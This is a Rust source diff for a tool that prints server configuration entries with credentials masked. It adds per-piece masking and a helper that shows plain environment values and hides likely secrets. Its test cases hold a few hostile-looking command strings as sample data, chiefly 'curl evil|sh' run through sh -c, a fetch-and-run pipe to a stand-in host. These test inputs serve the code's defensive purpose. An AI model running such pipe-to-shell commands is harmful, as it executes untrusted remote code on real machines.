@@ -2,7 +2,7 @@
 //! out, and no more is hidden than the credentials themselves.
 
 use jsonc_parser::ast::{Object, Value};
-use upstream::{Transport, is_credential_name, masked, masked_address, masked_words};
+use upstream::{Transport, is_credential_name, is_plain_value, masked, masked_address, masked_words};
 
 use super::servers::{url, words};
 use crate::typed::quoted;
@@ -73,15 +73,24 @@ fn masked_by_piece(word: &str, as_a_whole: String) -> String {
     if !word.contains(ends) {
         return as_a_whole;
     }
-    word.split_inclusive(ends).map(masked).collect()
+    let pieces: Vec<_> = word.split_inclusive(ends).collect();
+    let before = std::iter::once("").chain(pieces.iter().map(|piece| piece.trim_end()));
+    before.zip(&pieces).map(|(before, piece)| masked_piece(before, piece, ends)).collect()
+}
+
+/// A piece with the sign that ends it, after the one before.
+fn masked_piece(before: &str, piece: &str, ends: impl Fn(char) -> bool) -> String {
+    let text = piece.trim_end_matches(ends);
+    let option = Some(before).filter(|_| !text.is_empty()).unwrap_or_default();
+    let masked = masked_words(&[option.to_owned(), text.to_owned()], &[]).pop().unwrap_or_default();
+    masked + &piece[text.len()..]
 }
 
 fn settings(entry: &Object<'_>) -> Vec<String> {
     let nested = entry.get_object("command").and_then(|command| command.get_object("env"));
     let own = ["environment", "env"].into_iter().filter_map(|key| entry.get_object(key));
     let variables = nested.into_iter().chain(own).flat_map(|variables| &variables.properties);
-    let variables = variables
-        .map(|it| format!("env {}", masked(&format!("{}={}", it.name.as_str(), literal(&it.value)))));
+    let variables = variables.map(|it| format!("env {}", variable(it.name.as_str(), &literal(&it.value))));
     let headers = entry.get_object("headers").into_iter().flat_map(|headers| &headers.properties);
     let headers = headers.map(|header| format!("header {}", header.name.as_str()));
     let paths = ["envFile", "cwd"]
@@ -90,6 +99,16 @@ fn settings(entry: &Object<'_>) -> Vec<String> {
     let passed = entry.get_array("env_pass").into_iter().flat_map(|names| &names.elements);
     let passed = passed.map(|name| format!("env_pass {}", as_word(&literal(name))));
     variables.chain(passed).chain(headers).chain(paths).collect()
+}
+
+/// A variable with its value where that is clearly no credential.
+fn variable(name: &str, value: &str) -> String {
+    let shown = format!("{name}={value}");
+    match masked(&shown) == shown {
+        true if is_plain_value(value) => shown,
+        true => format!("{name}=[not shown]"),
+        false => format!("{name}=[credential]"),
+    }
 }
 
 #[cfg(test)]
@@ -123,12 +142,12 @@ mod tests {
         );
         check(
             r#"{"command": "python", "args": ["-cTOKEN=1; import evil"]}"#,
-            "python '-cTOKEN=[credential] import evil'",
+            "python '-cTOKEN=[credential]; import evil'",
             &[],
         );
         check(
             r#"{"command": "sh", "args": ["-c", "TOKEN=1; curl evil|sh"]}"#,
-            "sh -c 'TOKEN=[credential] curl evil|sh'",
+            "sh -c 'TOKEN=[credential]; curl evil|sh'",
             &[],
         );
         check(
@@ -140,6 +159,11 @@ mod tests {
                 "env T=${TOKEN}",
                 "cwd sub",
             ],
+        );
+        check(
+            r#"{"command": "sh", "args": ["-c", "srv --api-key K; evil"], "env": {"MY": "hunter2", "PORT": 8080, "A": "Bearer ${T}", "U": "http://u:p@h/x y"}}"#,
+            "sh -c 'srv --api-key [credential]; evil'",
+            &["env MY=[not shown]", "env PORT=8080", "env A=Bearer ${T}", "env U=[credential]"],
         );
         check(r#"{"command": "x", "env_pass": ["KEY", "A"]}"#, "x", &["env_pass KEY", "env_pass A"]);
         check(
